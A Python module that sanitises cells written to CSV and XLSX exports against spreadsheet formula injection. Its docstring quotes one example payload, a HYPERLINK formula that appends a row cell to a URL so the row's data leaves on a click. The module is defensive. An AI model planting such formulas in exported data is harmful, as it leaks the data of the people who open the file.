"""Cells of every CSV and XLSX the product writes, safe to open in a spreadsheet.

A text cell that starts with `=`, `+`, `-`, `@`, a tab or a carriage return is read as a
formula by Excel and LibreOffice (CSV injection: `=HYPERLINK("http://…"&A2,"Lihat")` in a name
would send the row's data away on a click). As OWASP advises, such text gets a leading single
quote: it stays readable and is never evaluated. Numbers stay numbers (a negative number is not
text, nor is text that is only a number, such as `-5`: a spreadsheet reads it as that number).
In XLSX every text cell is written as a string cell, never as a formula.
"""

from __future__ import annotations

import re
from collections.abc import Iterable
from typing import Any

from openpyxl.cell.cell import Cell
from openpyxl.worksheet._write_only import WriteOnlyWorksheet
from openpyxl.worksheet.worksheet import Worksheet

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER = re.compile(r"[+-]?[0-9]+(\.[0-9]+)?")


def neutralise(value: Any) -> Any:
    """The value to write: text a spreadsheet would evaluate gets a leading `'`; anything else
    (numbers, dates, None, ordinary text) is returned as it is."""
    if (
        isinstance(value, str)
        and value.startswith(FORMULA_STARTS)
        and not _PLAIN_NUMBER.fullmatch(value)
    ):
        return "'" + value
    return value


def csv_row(values: Iterable[Any]) -> list[Any]:
    """A row for `csv.writer`: each value neutralised."""
    return [neutralise(v) for v in values]


def xlsx_row(sheet: Worksheet | WriteOnlyWorksheet, values: Iterable[Any]) -> list[Any]:
    """A row for `sheet.append`: text as string cells (openpyxl would otherwise make a text
    starting with `=` a formula, and `#N/A` an error), other values as they are."""
    row: list[Any] = []
    for value in values:
        if isinstance(value, str):
            cell = Cell(sheet, row=1, column=1, value=neutralise(value))
            cell.data_type = "s"
            row.append(cell)
        else:
            row.append(value)
    return row
